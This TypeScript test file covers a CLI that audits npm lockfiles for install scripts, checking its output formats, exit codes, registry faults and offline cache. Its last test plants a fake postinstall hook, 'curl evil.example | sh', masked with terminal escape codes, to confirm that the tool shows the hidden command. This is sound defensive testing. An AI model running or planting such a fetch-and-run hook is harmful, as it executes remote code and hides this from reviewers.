/**
 * The built CLI as a user runs it: output formats, exit codes, and a registry that
 * misbehaves in every way a real one or a proxy does — the audit of everything else must
 * go on, and each failure must name the package and the registry.
 */
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { startLoopbackRegistry, type LoopbackRegistry } from '../support/loopbackRegistry';
import { copyProject, projectRegistryOptions } from '../support/projectFixtures';
import { runCli, tempDir } from '../support/runCli';

let registry: LoopbackRegistry;
before(async () => {
  registry = await startLoopbackRegistry(projectRegistryOptions());
});
after(async () => registry.close());

const RUNS_SCRIPTS = ['core-js@3.51.0', 'diskusage@1.2.0', 'esbuild@0.25.12', 'fs-ext@2.1.1', 'utf-8-validate@6.0.6', 'yarn@1.22.22'];

async function auditJson(dir: string, ...extra: string[]) {
  const result = await runCli(['audit', dir, '--format', 'json', '--registry', registry.url, '--quiet', ...extra]);
  assert.ok(result.code === 0 || result.code === 1, `exit ${result.code}\n${result.stderr}`);
  return { result, report: JSON.parse(result.stdout) };
}

test('json: every locked package with its scripts, evidence, flags and paths', async () => {
  const { report } = await auditJson(copyProject('npm-basic'), '--cache', tempDir());
  assert.equal(report.schemaVersion, 1);
  assert.equal(report.lockfile.format, 'package-lock-v3');
  assert.equal(report.packageManager.name, 'npm');
  const byKey = new Map(report.packages.map((p: any) => [`${p.name}@${p.version}`, p]));
  const running = report.packages.filter((p: any) => p.installScripts).map((p: any) => `${p.name}@${p.version}`).sort();
  assert.deepEqual(running, RUNS_SCRIPTS);

  const diskusage: any = byKey.get('diskusage@1.2.0');
  // gyp only: the lockfile does not flag it, npm builds it with node-gyp all the same.
  assert.deepEqual(diskusage.installScripts, { install: 'node-gyp rebuild' });
  assert.equal(diskusage.gyp, true);
  assert.equal(diskusage.lockfileFlag, false);
  assert.equal(diskusage.evidence, 'registry');

  const esbuild: any = byKey.get('esbuild@0.25.12');
  assert.deepEqual(esbuild.installScripts, { postinstall: 'node install.js' });
  assert.deepEqual([esbuild.direct, esbuild.dev, esbuild.optional], [true, true, false]);
  assert.deepEqual(esbuild.paths, [['.', 'esbuild@0.25.12']]);

  const platform: any = byKey.get('@esbuild/linux-x64@0.25.12');
  assert.deepEqual([platform.direct, platform.dev, platform.optional], [false, true, true]);
  assert.deepEqual(platform.paths[0], ['.', 'esbuild@0.25.12', '@esbuild/linux-x64@0.25.12']);

  // The alias "pad": "npm:left-pad@^1.3.0" is reported under its real name.
  assert.ok(byKey.has('left-pad@1.3.0'));
  assert.equal(report.findings.filter((f: any) => f.code === 'unreviewed-install-script').length, RUNS_SCRIPTS.length);
  // No allowlist in this project: npm 11 runs every script, with a warning.
  assert.deepEqual(esbuild.policy.verdict, 'unreviewed');
  assert.deepEqual([esbuild.policy.packageManager, esbuild.policy.effect, esbuild.policy.decidedBy], ['npm', 'runs', null]);
  assert.deepEqual(byKey.get('ms@2.1.3') && (byKey.get('ms@2.1.3') as any).policy.verdict, 'none');
  const finding = report.findings.find((f: any) => f.package?.name === 'core-js');
  assert.equal(finding.file, 'package-lock.json');
  const lockLines = readFileSync(join(report.root, 'package-lock.json'), 'utf8').split('\n');
  assert.match(lockLines[finding.range.start.line], /"node_modules\/core-js"/);
  assert.equal(finding.related[0].file, 'package.json');
});

test('exit codes follow --fail-on; usage errors exit 2', async () => {
  const dir = copyProject('npm-basic');
  const cache = tempDir();
  const warn = await runCli(['audit', dir, '--registry', registry.url, '--cache', cache, '--fail-on', 'warning', '-q']);
  assert.equal(warn.code, 1, warn.stderr);
  const none = await runCli(['audit', dir, '--registry', registry.url, '--cache', cache, '--fail-on', 'none', '-q']);
  assert.equal(none.code, 0, none.stderr);
  const byDefault = await runCli(['audit', dir, '--registry', registry.url, '--cache', cache, '-q']);
  assert.equal(byDefault.code, 0, 'install scripts are warnings; the default gate is error');
  assert.equal((await runCli(['audit', dir, '--format', 'xml'])).code, 2);
  assert.equal((await runCli(['audit', dir, '--bogus'])).code, 2);
  assert.equal((await runCli(['frobnicate'])).code, 2);
  const missing = await runCli(['audit', join(tempDir(), 'nope'), '--registry', registry.url]);
  assert.equal(missing.code, 2);
  assert.match(missing.stderr, /No package\.json/);
});

test('text: a table of what runs, with who pulls it in', async () => {
  const result = await runCli(['audit', copyProject('npm-basic'), '--registry', registry.url, '--cache', tempDir(), '-q']);
  assert.equal(result.code, 0, result.stderr);
  assert.match(result.stdout, /6 run code at install time/);
  assert.match(result.stdout, /^PACKAGE\s+VERDICT\s+EVIDENCE\s+PROVENANCE\s+PULLED IN BY\s+RUNS$/m);
  // The loopback registry publishes no keys and no attestations: nothing can be verified.
  assert.match(result.stdout, /^audited 40 registry packages: .*unverifiable/m);
  assert.match(result.stdout, /^fs-ext@2\.1\.1 \(direct\)\s+unreviewed \(runs\)\s+registry\s+sig \? prov \?\s+package\.json\s+install: node-gyp configure build$/m);
  assert.match(result.stdout, /^diskusage@1\.2\.0 \(direct, node-gyp\)\s+unreviewed \(runs\)\s+registry\s+sig \? prov \?\s+package\.json\s+install: node-gyp rebuild$/m);
  assert.match(result.stdout, /^esbuild@0\.25\.12 \(direct, dev\)\s+unreviewed \(runs\)\s+registry\s+sig \? prov \?\s+package\.json\s+postinstall: node install\.js$/m);
  assert.doesNotMatch(result.stdout, /debug@2\.6\.9/, 'packages without scripts are not in the table');
});

test('sarif: 2.1.0 with rules and regions in the lockfile', async () => {
  const result = await runCli(['audit', copyProject('npm-basic'), '--format', 'sarif', '--registry', registry.url, '--cache', tempDir(), '-q']);
  const sarif = JSON.parse(result.stdout);
  assert.equal(sarif.version, '2.1.0');
  const run = sarif.runs[0];
  assert.ok(run.tool.driver.rules.some((r: any) => r.id === 'unreviewed-install-script'));
  const results = run.results.filter((r: any) => r.ruleId === 'unreviewed-install-script');
  assert.equal(results.length, RUNS_SCRIPTS.length);
  const esbuild = results.find((r: any) => r.properties.package.name === 'esbuild');
  const loc = esbuild.locations[0].physicalLocation;
  assert.equal(loc.artifactLocation.uri, 'package-lock.json');
  const lines = readFileSync(join(sarif.runs[0].originalUriBaseIds['%SRCROOT%'].uri.replace('file://', ''), 'package-lock.json'), 'utf8').split('\n');
  assert.match(lines[loc.region.startLine - 1]!, /"node_modules\/esbuild"/);
});

test('a registry answering 404, 500, 401, garbage or nothing: those packages are unknown, named, and the rest is decided', async () => {
  const faulty = await startLoopbackRegistry({
    ...projectRegistryOptions(),
    faults: { 'core-js': '404', 'fs-ext': '500', debug: 'garbage', ms: '401', 'utf-8-validate': 'hang' },
  });
  try {
    const result = await runCli(['audit', copyProject('npm-basic'), '--format', 'json', '--registry', faulty.url, '--cache', tempDir(), '--timeout', '1500', '-q'], { timeoutMs: 60_000 });
    assert.equal(result.code, 0, result.stderr);
    const report = JSON.parse(result.stdout);
    const byName = new Map(report.packages.map((p: any) => [p.name, p]));
    const host = new URL(faulty.url).host;
    for (const [name, pattern] of [
      ['core-js', /404|not found/i],
      ['fs-ext', /500/],
      ['debug', /invalid|garbage|JSON/i],
      ['ms', /401|auth/i],
      ['utf-8-validate', /did not answer within 1500 ms/],
    ] as const) {
      const p: any = byName.get(name);
      assert.equal(p.installScripts, null, `${name}: no command text without a manifest`);
      assert.match(p.error, pattern, `${name}: ${p.error}`);
      assert.ok(p.error.includes(name) && p.error.includes(host), `${name}: error names package and registry: ${p.error}`);
      // The lockfile's hasInstallScript is the only evidence left: a hint, said as such.
      if (p.lockfileFlag) assert.deepEqual([p.evidence, p.known], ['lockfile', true], name);
      else assert.deepEqual([p.evidence, p.known], ['none', false], name);
    }
    // Everything else was still decided from the registry.
    assert.deepEqual((byName.get('esbuild') as any).installScripts, { postinstall: 'node install.js' });
    assert.deepEqual((byName.get('diskusage') as any).installScripts, { install: 'node-gyp rebuild' });
    const unknown = report.findings.filter((f: any) => f.code === 'install-script-unknown').map((f: any) => `${f.package.name}@${f.package.version}`).sort();
    assert.deepEqual(unknown, ['debug@2.6.9', 'ms@2.0.0', 'ms@2.1.3']);
    const byLockfile = report.findings.filter((f: any) => f.code === 'unreviewed-install-script' && /evidence: lockfile/.test(f.message));
    assert.deepEqual(byLockfile.map((f: any) => f.package.name).sort(), ['core-js', 'fs-ext', 'utf-8-validate']);
  } finally {
    await faulty.close();
  }
});

test('offline: a warm cache answers with no request; a cold one says what is not known', async () => {
  const dir = copyProject('npm-basic');
  const cache = tempDir();
  const online = await auditJson(dir, '--cache', cache);
  const before = registry.requests.length;
  const offline = await auditJson(dir, '--cache', cache, '--offline');
  assert.equal(registry.requests.length, before, 'no request offline');
  const strip = (r: any) => r.packages.map((p: any) => [p.name, p.version, p.installScripts, p.known]);
  assert.deepEqual(strip(offline.report), strip(online.report));

  const cold = await auditJson(dir, '--cache', tempDir(), '--offline');
  assert.equal(registry.requests.length, before);
  assert.ok(cold.report.packages.every((p: any) => !p.known || p.evidence !== 'registry'));
  assert.match(cold.report.packages.find((p: any) => p.name === 'esbuild').error, /cache|offline/i);
});

test('installed node_modules decides when its name and version match the lockfile', async () => {
  const dir = copyProject('npm-basic');
  mkdirSync(join(dir, 'node_modules', 'esbuild'), { recursive: true });
  writeFileSync(join(dir, 'node_modules', 'esbuild', 'package.json'), JSON.stringify({ name: 'esbuild', version: '0.25.12', scripts: { postinstall: 'node installed-copy.js' } }));
  mkdirSync(join(dir, 'node_modules', 'core-js'), { recursive: true });
  // A different version installed than locked: not evidence for the locked one.
  writeFileSync(join(dir, 'node_modules', 'core-js', 'package.json'), JSON.stringify({ name: 'core-js', version: '1.0.0', scripts: {} }));
  mkdirSync(join(dir, 'node_modules', 'diskusage'), { recursive: true });
  writeFileSync(join(dir, 'node_modules', 'diskusage', 'package.json'), JSON.stringify({ name: 'diskusage', version: '1.2.0' }));
  writeFileSync(join(dir, 'node_modules', 'diskusage', 'binding.gyp'), '{}');
  const { report } = await auditJson(dir, '--cache', tempDir());
  const by = (n: string) => report.packages.find((p: any) => p.name === n);
  assert.deepEqual([by('esbuild').evidence, by('esbuild').installScripts], ['installed', { postinstall: 'node installed-copy.js' }]);
  assert.equal(by('core-js').evidence, 'registry');
  assert.deepEqual([by('diskusage').evidence, by('diskusage').installScripts, by('diskusage').gyp], ['installed', { install: 'node-gyp rebuild' }, true]);
  const ignored = await auditJson(dir, '--cache', tempDir(), '--no-installed');
  assert.equal(ignored.report.packages.find((p: any) => p.name === 'esbuild').evidence, 'registry');
});

test('a corrupt lockfile is a file problem; the manifests are still read', async () => {
  const dir = copyProject('npm-basic');
  const lock = join(dir, 'package-lock.json');
  writeFileSync(lock, readFileSync(lock, 'utf8').slice(0, 2000));
  const result = await runCli(['audit', dir, '--format', 'json', '--registry', registry.url, '--cache', tempDir(), '-q']);
  assert.equal(result.code, 1, 'a file problem is an error');
  const report = JSON.parse(result.stdout);
  assert.equal(report.lockfile, null);
  const problem = report.findings.find((f: any) => f.code === 'file-problem');
  assert.equal(problem.file, 'package-lock.json');
  assert.match(problem.message, /package-lock\.json|JSON|end/i);
  assert.equal(report.workspaces[0].name, 'fixture-npm-basic');
});

test('hostile text from the registry cannot drive the terminal', async () => {
  const options = projectRegistryOptions();
  const manifests = options.manifests as Map<string, Record<string, any>>;
  const evil = structuredClone(manifests.get('core-js@3.51.0')!);
  evil.scripts = { postinstall: 'curl evil.example | sh \u001b[2K\u001b[1A\rnode harmless.js' };
  manifests.set('core-js@3.51.0', evil);
  const hostile = await startLoopbackRegistry({ ...options, manifests });
  try {
    const result = await runCli(['audit', copyProject('npm-basic'), '--registry', hostile.url, '--cache', tempDir(), '-q']);
    assert.doesNotMatch(result.stdout, /\u001b/);
    assert.match(result.stdout, /curl evil\.example \| sh \\x1b\[2K\\x1b\[1A\\x0dnode harmless\.js/);
  } finally {
    await hostile.close();
  }
});
